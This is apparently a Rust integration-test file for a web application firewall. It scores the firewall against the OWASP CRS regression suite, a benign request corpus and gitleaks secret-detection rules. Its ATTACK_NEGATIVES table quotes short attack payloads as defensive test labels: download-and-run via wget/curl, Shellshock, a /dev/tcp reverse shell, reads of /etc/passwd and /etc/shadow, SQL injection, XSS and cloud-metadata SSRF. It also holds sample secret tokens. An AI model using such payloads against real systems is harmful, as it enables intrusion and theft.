//! The WAF's integration tests: the OWASP CRS regression suite (go-ftw YAML in
//! `../shared/waf/coreruleset`, read in place) scored per attack category against the
//! built-in engine, and a benign corpus of ordinary API requests that must pass.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::Command;

use portcullis_waf::{Engine, Input, Report, Settings};

/// The shared data directory: `PORTCULLIS_SHARED`, or `../shared` beside the checkout.
fn shared() -> PathBuf {
    std::env::var_os("PORTCULLIS_SHARED").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared"),
        PathBuf::from,
    )
}

/// The CRS test directory; a missing snapshot fails the test rather than skipping it.
fn crs_tests() -> PathBuf {
    let dir = shared().join("waf/coreruleset/tests/regression/tests");
    assert!(
        dir.is_dir(),
        "the OWASP CRS regression tests are missing: expected {} (see ../shared/waf/coreruleset/SNAPSHOT.md; \
         set PORTCULLIS_SHARED to the shared directory)",
        dir.display()
    );
    dir
}

/// `[[name, value], ...]` as owned pairs.
fn header_pairs(v: &serde_json::Value) -> Vec<(String, String)> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|h| {
            (
                h[0].as_str().unwrap().to_owned(),
                h[1].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

struct Stage {
    dir: String,
    id: String,
    method: String,
    uri: String,
    headers: Vec<(String, String)>,
    data: Option<String>,
    expect: Vec<u64>,
    no_expect: Vec<u64>,
}

/// Every runnable stage of the named rule files (`encoded_request` stages, raw bytes this
/// engine does not take, are left out and counted).
fn stages(prefixes: &[&str]) -> (Vec<Stage>, usize) {
    let script = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/crs_stages.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(crs_tests())
        .args(prefixes)
        .output()
        .expect("python3 runs (with PyYAML)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut all = Vec::new();
    let mut skipped = 0;
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        if v["encoded"].as_bool() == Some(true) {
            skipped += 1;
            continue;
        }
        let ids = |k: &str| -> Vec<u64> {
            v[k].as_array()
                .map(|a| a.iter().filter_map(serde_json::Value::as_u64).collect())
                .unwrap_or_default()
        };
        all.push(Stage {
            dir: v["dir"].as_str().unwrap().to_owned(),
            id: v["id"].as_str().unwrap().to_owned(),
            method: v["method"].as_str().unwrap().to_owned(),
            uri: v["uri"].as_str().unwrap().to_owned(),
            headers: header_pairs(&v["headers"]),
            data: v["data"].as_str().map(str::to_owned),
            expect: ids("expect"),
            no_expect: ids("no_expect"),
        });
    }
    assert!(!all.is_empty(), "no CRS test stages were read");
    (all, skipped)
}

fn inspect(engine: &Engine, s: &Stage, settings: &Settings) -> Report {
    let headers: Vec<(&str, &[u8])> = s
        .headers
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_bytes()))
        .collect();
    engine.inspect(
        &Input {
            method: &s.method,
            uri: &s.uri,
            headers: &headers,
            body: s.data.as_deref().map(str::as_bytes),
            secret_fields: &[],
        },
        settings,
        &[],
        None,
    )
}

/// Whether a report has a finding of the CRS file `dir` (`"942"`), counted or not.
fn flagged_in(r: &Report, dir: &str) -> bool {
    r.findings
        .iter()
        .any(|f| f.rule.to_string().starts_with(dir))
}

/// The ratchet: per CRS file, the least share of expect-stages flagged in its category at
/// detection paranoia 4, and of pure-negative stages left alone (nothing in the category
/// counted) at paranoia 1. Raise these as the engine improves; never lower them, but for a
/// negative stage newly flagged that was reviewed as an attack (ATTACK_NEGATIVES: 932's
/// went from 0.92 when a line break became a command separator, which three `\ncat
/// /etc/passwd;` stages that CRS keeps from its rule 932230 are).
const RATCHET: &[(&str, f64, f64)] = &[
    ("930", 0.96, 0.93),
    ("931", 1.00, 1.00),
    ("932", 0.855, 0.91),
    ("933", 0.76, 0.96),
    ("934", 0.68, 0.84),
    ("941", 0.98, 0.87),
    ("942", 0.95, 0.93),
];

/// Negative stages (no `expect_ids`) that are not benign requests: CRS asserts only that one
/// rule stays silent on them, and their payload is an attack another rule exists to catch
/// (or CRS's own PL1 libinjection rules, 941100/942100, the same library as ours, flag it).
/// They are reported apart and left out of the benign share; each was read, with its reason.
const ATTACK_NEGATIVES: &[(&str, &str)] = &[
    (
        "930110-7-0",
        "`/get/..`: a traversal to the parent (httpd strips it; we see it)",
    ),
    (
        "932207-3-0",
        "Referer `;/bin/ca?+/et*/passwd`: globbed command injection",
    ),
    ("932207-4-0", "Referer `;ls -al`: command injection"),
    (
        "932230-1-0",
        "`system('echo cd /tmp;wget ...')`: download and run",
    ),
    ("932230-2-0", "`;lwp-download http://...`: download"),
    ("932230-9-0", "`system('dig ...')` beside HTML entities"),
    (
        "932230-10-0",
        "`system('echo cd /tmp;wget ...;curl ...')` with entities",
    ),
    ("932230-11-0", "the same, entities first"),
    ("932230-12-0", "the same, entities last"),
    (
        "932230-14-0",
        "SSI `<!--#exec cmd=\"/bin/cat /etc/shadow\"-->`",
    ),
    (
        "932230-16-0",
        "Shellshock `() { :;}; /bin/bash -c \"curl ...\"`",
    ),
    (
        "932230-18-0",
        "SSI exec of /etc/shadow, concatenated with entities",
    ),
    ("932230-19-0", "the same, entities first"),
    (
        "932230-15-0",
        "`\\ncat /etc/passwd;`: a line break ends a command as `;` does",
    ),
    ("932230-20-0", "the same, text after"),
    ("932230-21-0", "the same, text before"),
    ("932230-23-0", "Shellshock with entities"),
    (
        "932230-26-0",
        "`` ` /bin/cat /etc/passwd` ``: command substitution",
    ),
    ("932230-42-0", "`;vi -c:\\!pwd`: editor shell escape"),
    ("932230-43-0", "`;vim -c:\\!pwd`: editor shell escape"),
    (
        "932230-46-0",
        "`;cat /path/file.gz`: command after a separator",
    ),
    (
        "932236-9-0",
        "`;vi -c:\\!pwd` (a PL2 rule's silence at PL1)",
    ),
    (
        "932250-1-0",
        "`tar -xzf /var/www/exfiltrate.tar.gz /etc`: exfiltration",
    ),
    ("932250-2-0", "the same after a separator"),
    ("932260-1-0", "`bash -c \"echo test\"`"),
    (
        "932260-2-0",
        "cookie `exec 5<>/dev/tcp/8.8.8.8/80`: a reverse shell",
    ),
    ("932260-3-0", "`;tar -xzf ... /etc` after a separator"),
    (
        "933100-81-0",
        "`<?xphp system('id'); ?>`: a PHP function call",
    ),
    (
        "933131-1-0",
        "`$_SERVER['test']`: a PHP superglobal (CRS 933130 catches it)",
    ),
    (
        "933131-2-0",
        "`$_COOKIE` as a parameter name: a PHP superglobal",
    ),
    (
        "933161-5-0",
        "`gethostbynamE(`: a PHP function call in the body",
    ),
    (
        "934110-6-0",
        "`169.254.169.254/latest/user-data`: cloud metadata (SSRF)",
    ),
    (
        "934110-7-0",
        "`http://169.254.169.254/latest`: cloud metadata (SSRF)",
    ),
    (
        "934110-8-0",
        "`http://metadata.google.internal`: cloud metadata (SSRF)",
    ),
    (
        "934120-16-0",
        "`[::ffff:a9fe:a9fe`: the metadata address as IPv6",
    ),
    (
        "934120-17-0",
        "`[::ffff:a9fe:a9fe]`: the metadata address as IPv6",
    ),
    (
        "934120-19-0",
        "`[0:0:0:0:0:ffff:169.254.169.254]`: the metadata address",
    ),
    (
        "941100-5-0",
        "Referer with `<script ...>setTimeout(...)`: XSS",
    ),
    (
        "941140-11-0",
        "`style=color:red;...`: libinjection (CRS 941100) flags it",
    ),
    (
        "941140-12-0",
        "`style=background:url(http://...)`: libinjection flags it",
    ),
    ("941140-13-0", "`style=a:b;a:b;...`: libinjection flags it"),
    ("941140-14-0", "`url(javascript:alert(1))`: XSS"),
    ("941310-8-0", "US-ASCII `¼script¾alert(¢XSS¢)¼/script`: XSS"),
    ("941310-9-0", "the same with the closing tag"),
    (
        "942151-13-0",
        "prose `Left (WA, RR), ...`: libinjection (CRS 942100) flags it",
    ),
    (
        "942151-14-0",
        "prose `One quarter (24%) of ...`: libinjection flags it",
    ),
    ("942210-26-0", "`;set @`: chained SQL"),
    (
        "942350-9-0",
        "`/*';INSERT INTO category(id) VALUES (3)-- -*/`",
    ),
    (
        "942360-30-0",
        "`'||(select(pg_sleep(15))where(true))||'`: time-based SQLi",
    ),
    (
        "942360-31-0",
        "`UNION ALL SELECT NULL,NULL,CONCAT(...)-- sqCV`: sqlmap's probe",
    ),
    ("942521-15-0", "`\\'lol' or '1`: a tautology"),
    (
        "942521-16-0",
        "an article quoting `' OR '1'='1' --`: libinjection flags it",
    ),
    ("942522-5-0", "`'or'1`: a tautology"),
    ("942522-8-0", "the same article"),
];

#[test]
fn owasp_crs_regression_suite_by_category() {
    let engine = Engine::new().unwrap();
    let prefixes: Vec<&str> = RATCHET.iter().map(|(d, _, _)| *d).collect();
    let (stages, skipped) = stages(&prefixes);
    let pl4 = Settings {
        paranoia: 4,
        detection_paranoia: 4,
        inbound_threshold: 5,
    };
    let pl1 = Settings::default();
    // dir -> (expect total, flagged, negative total, left alone, blocked at PL1)
    let mut table: BTreeMap<&str, (usize, usize, usize, usize, usize)> = BTreeMap::new();
    let mut missed: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    let mut noisy: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    let show = std::env::var("PORTCULLIS_WAF_SHOW").unwrap_or_default();
    let mut attack_negatives: Vec<(String, &str, bool)> = Vec::new();
    for s in &stages {
        if show.split(',').any(|id| id == s.id) {
            let r = inspect(&engine, s, &pl4);
            for f in &r.findings {
                println!(
                    "{}: {} PL{} {:?} {}",
                    s.id, f.rule, f.paranoia, f.locations, f.msg
                );
            }
        }
        let row = table.entry(s.dir.as_str()).or_default();
        if !s.expect.is_empty() {
            row.0 += 1;
            if flagged_in(&inspect(&engine, s, &pl4), &s.dir) {
                row.1 += 1;
            } else {
                missed.entry(s.dir.as_str()).or_default().push(&s.id);
            }
        } else if !s.no_expect.is_empty() {
            if let Some((_, why)) = ATTACK_NEGATIVES.iter().find(|(id, _)| *id == s.id) {
                let r = inspect(&engine, s, &pl1);
                attack_negatives.push((s.id.clone(), *why, r.exceeded));
            }
            row.2 += 1;
            let r = inspect(&engine, s, &pl1);
            if !r
                .findings
                .iter()
                .any(|f| f.counted && f.rule.to_string().starts_with(&s.dir))
            {
                row.3 += 1;
            } else {
                noisy.entry(s.dir.as_str()).or_default().push(&s.id);
            }
            if r.exceeded {
                row.4 += 1;
            }
        }
    }
    let share = |a: usize, b: usize| if b == 0 { 1.0 } else { a as f64 / b as f64 };
    println!("OWASP CRS regression stages ({skipped} encoded_request stages not runnable here)");
    println!("file  expect  flagged@PL4    negative  left alone@PL1  blocked@PL1");
    let mut failures = Vec::new();
    for (dir, min_flagged, min_alone) in RATCHET {
        let (e, f, n, a, b) = table.get(dir).copied().unwrap_or_default();
        println!(
            "{dir}   {e:6}  {f:5} {:5.1}%   {n:6}  {a:5} {:5.1}%      {b:5}",
            100.0 * share(f, e),
            100.0 * share(a, n)
        );
        if share(f, e) < *min_flagged {
            failures.push(format!(
                "{dir}: {:.1}% flagged, the ratchet is {:.1}%",
                100.0 * share(f, e),
                100.0 * min_flagged
            ));
        }
        if share(a, n) < *min_alone {
            failures.push(format!(
                "{dir}: {:.1}% left alone, the ratchet is {:.1}%",
                100.0 * share(a, n),
                100.0 * min_alone
            ));
        }
    }
    // The benign share: negative stages without the reviewed attack payloads.
    let (negatives, alone) = table.values().fold((0, 0), |(n, a), r| (n + r.2, a + r.3));
    let attacks = attack_negatives.len();
    let benign_alone = share(alone, negatives - attacks);
    println!(
        "all categories: {alone} of {negatives} negative stages left alone at PL1 ({:.1}%); \
         {attacks} of them carry attack payloads (ATTACK_NEGATIVES); of the other {}, {:.1}% left alone",
        100.0 * share(alone, negatives),
        negatives - attacks,
        100.0 * benign_alone
    );
    assert_eq!(
        attacks,
        ATTACK_NEGATIVES.len(),
        "a reviewed stage id is not a negative stage of the suite any more"
    );
    if benign_alone < 0.95 {
        failures.push(format!(
            "benign negative stages: {:.1}% left alone at PL1, the target is 95%",
            100.0 * benign_alone
        ));
    }
    if std::env::var_os("PORTCULLIS_WAF_MISSED").is_some() {
        for (dir, ids) in &missed {
            println!("missed in {dir}: {}", ids.join(" "));
        }
        for (dir, ids) in &noisy {
            println!("noisy in {dir}: {}", ids.join(" "));
        }
    }
    assert!(failures.is_empty(), "below the ratchet: {failures:?}");
}

/// The benign corpus through `engine` at paranoia 1: how many requests, and the blocked ones.
fn benign_blocked(engine: &Engine) -> (usize, Vec<String>) {
    let corpus = include_str!("benign.jsonl");
    let mut total = 0;
    let mut blocked = Vec::new();
    for line in corpus.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        let headers = header_pairs(&v["headers"]);
        let hs: Vec<(&str, &[u8])> = headers
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_bytes()))
            .collect();
        let r = engine.inspect(
            &Input {
                method: v["method"].as_str().unwrap(),
                uri: v["uri"].as_str().unwrap(),
                headers: &hs,
                body: v["body"].as_str().map(str::as_bytes),
                secret_fields: &[],
            },
            &Settings::default(),
            &[],
            None,
        );
        total += 1;
        if r.exceeded {
            blocked.push(format!(
                "{} {}: {:?}",
                v["method"],
                v["uri"],
                r.findings
                    .iter()
                    .map(|f| (f.rule, f.locations.clone()))
                    .collect::<Vec<_>>()
            ));
        }
    }
    (total, blocked)
}

/// 1,200 ordinary API requests (`benign.jsonl`, written by `benign_gen.py`): at paranoia 1
/// at most 1% may be blocked.
#[test]
fn benign_requests_pass_at_paranoia_one() {
    const MAX_BLOCKED: usize = 12;
    let (total, blocked) = benign_blocked(&Engine::new().unwrap());
    assert!(total >= 1000, "the corpus has {total} requests");
    println!(
        "benign corpus: {} of {total} blocked at paranoia 1",
        blocked.len()
    );
    for b in &blocked {
        println!("  {b}");
    }
    assert!(
        blocked.len() <= MAX_BLOCKED,
        "{} of {total} ordinary requests blocked (at most {MAX_BLOCKED}): {blocked:#?}",
        blocked.len()
    );
}

/// gitleaks' rule set (`../shared/dlp/gitleaks.toml`) loads as DLP rules, and finds the
/// kinds of secrets it is written for.
#[test]
fn gitleaks_rules_load_and_find_secrets() {
    let path = shared().join("dlp/gitleaks.toml");
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "gitleaks' rules are missing: {} ({e}); see ../shared/dlp/SNAPSHOT.md",
            path.display()
        )
    });
    let mut dlp = portcullis_waf::dlp::Dlp::default();
    let (loaded, skipped) = dlp.load_gitleaks(&text).unwrap();
    println!(
        "gitleaks rules: {loaded} loaded, {} not runnable here: {skipped:?}",
        skipped.len()
    );
    assert!(loaded >= 200, "only {loaded} gitleaks rules loaded");
    let samples = [
        ("github", format!("GITHUB_TOKEN=ghp_{}", "Zx9Kq2Lm4Np6Rs8Tv0Wy1Ab3Cd5Ef7Gh9Jk2M")),
        ("slack", "xoxb-2210535565-2289123467123-Zx9Kq2Lm4Np6Rs8Tv0Wy1Ab3".to_owned()),
        ("stripe", format!("key: sk_live_{}", "Zx9Kq2Lm4Np6Rs8Tv0Wy1Ab3Cd")),
        ("private key", "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\n-----END PRIVATE KEY-----".to_owned()),
    ];
    for (what, text) in samples {
        let hits = dlp.scan(&text, &[]);
        let masked = portcullis_waf::dlp::mask(&text, &hits);
        assert!(
            !hits.is_empty()
                && !masked.contains("Zx9Kq2Lm4Np6")
                && !masked.contains("MIIEvQIBADAN"),
            "the {what} secret was not found in {text:?}: {hits:?}"
        );
    }
}

/// With `crs_dir`: the least share of expect-stages flagged per CRS file (raise, never lower).
const CRS_DIR_RATCHET: &[(&str, f64)] = &[
    ("930", 0.98),
    ("931", 1.00),
    ("932", 0.99),
    ("933", 0.99),
    ("934", 0.89),
    ("941", 0.99),
    ("942", 0.99),
];

/// OWASP CRS's own request rules loaded from its rules directory (`crs_dir`), run with the
/// built-in rules: how many load, why the others do not, and the suite's figures with
/// them. The loaded rules may only add detection, so each category's flagged share is at
/// least the built-in rules' ratchet.
#[test]
fn owasp_crs_rules_from_crs_dir() {
    let dir = shared().join("waf/coreruleset/rules");
    assert!(
        dir.is_dir(),
        "the OWASP CRS rules are missing: expected {} (see ../shared/waf/coreruleset/SNAPSHOT.md)",
        dir.display()
    );
    let (engine, stats) = Engine::with_crs(&dir).unwrap();
    let mut why: BTreeMap<String, usize> = BTreeMap::new();
    for (_, reason) in &stats.skipped {
        let head = reason.split(':').next().unwrap_or(reason).to_owned();
        *why.entry(head).or_default() += 1;
    }
    println!(
        "crs_dir: {} files, {} rules loaded, {} skipped: {why:?}",
        stats.files,
        stats.loaded,
        stats.skipped.len()
    );
    assert!(stats.loaded >= 150, "{} rules loaded", stats.loaded);
    let prefixes: Vec<&str> = RATCHET.iter().map(|(d, _, _)| *d).collect();
    let (stages, _) = stages(&prefixes);
    let pl4 = Settings {
        paranoia: 4,
        detection_paranoia: 4,
        inbound_threshold: 5,
    };
    let pl1 = Settings::default();
    let mut table: BTreeMap<&str, (usize, usize, usize, usize)> = BTreeMap::new();
    for s in &stages {
        let row = table.entry(s.dir.as_str()).or_default();
        if !s.expect.is_empty() {
            row.0 += 1;
            if flagged_in(&inspect(&engine, s, &pl4), &s.dir) {
                row.1 += 1;
            }
        } else if !s.no_expect.is_empty() && !ATTACK_NEGATIVES.iter().any(|(id, _)| *id == s.id) {
            row.2 += 1;
            let r = inspect(&engine, s, &pl1);
            if !r
                .findings
                .iter()
                .any(|f| f.counted && f.rule.to_string().starts_with(&s.dir))
            {
                row.3 += 1;
            }
        }
    }
    let share = |a: usize, b: usize| if b == 0 { 1.0 } else { a as f64 / b as f64 };
    println!("with crs_dir: file  expect  flagged@PL4   benign negative  left alone@PL1");
    let mut failures = Vec::new();
    for (dir, min_flagged) in CRS_DIR_RATCHET {
        let (e, f, n, a) = table.get(dir).copied().unwrap_or_default();
        println!(
            "with crs_dir: {dir}   {e:6}  {f:5} {:5.1}%   {n:6}  {a:5} {:5.1}%",
            100.0 * share(f, e),
            100.0 * share(a, n)
        );
        if share(f, e) < *min_flagged {
            failures.push(format!("{dir}: {:.1}% flagged", 100.0 * share(f, e)));
        }
    }
    let (n, a) = table.values().fold((0, 0), |(n, a), r| (n + r.2, a + r.3));
    println!(
        "with crs_dir: {a} of {n} benign negative stages left alone at PL1 ({:.1}%)",
        100.0 * share(a, n)
    );
    if share(a, n) < 0.97 {
        failures.push(format!(
            "benign negatives: {:.1}% left alone",
            100.0 * share(a, n)
        ));
    }
    // The benign corpus with CRS's rules as well. CRS's own PL1 rules block far more of it
    // than the built-in ones (its Unix-command rules 932235/932370 on prose, 934110 on any
    // `http://localhost` URL, 942190 on "'select all'", 920540 on a literal \uXXXX outside
    // JSON): a ratchet that only goes down, and the reason crs_dir is opt-in.
    const CRS_DIR_MAX_BENIGN_BLOCKED: usize = 115;
    let (total, blocked) = benign_blocked(&engine);
    let mut by_rule: BTreeMap<String, usize> = BTreeMap::new();
    for b in &blocked {
        for id in b.split('(').skip(1).filter_map(|x| x.split(',').next()) {
            *by_rule.entry(id.to_owned()).or_default() += 1;
        }
    }
    println!(
        "with crs_dir: benign corpus: {} of {total} blocked at paranoia 1; by rule: {by_rule:?}",
        blocked.len()
    );
    if blocked.len() > CRS_DIR_MAX_BENIGN_BLOCKED {
        failures.push(format!(
            "benign corpus: {} of {total} blocked",
            blocked.len()
        ));
    }
    assert!(failures.is_empty(), "{failures:?}");
}
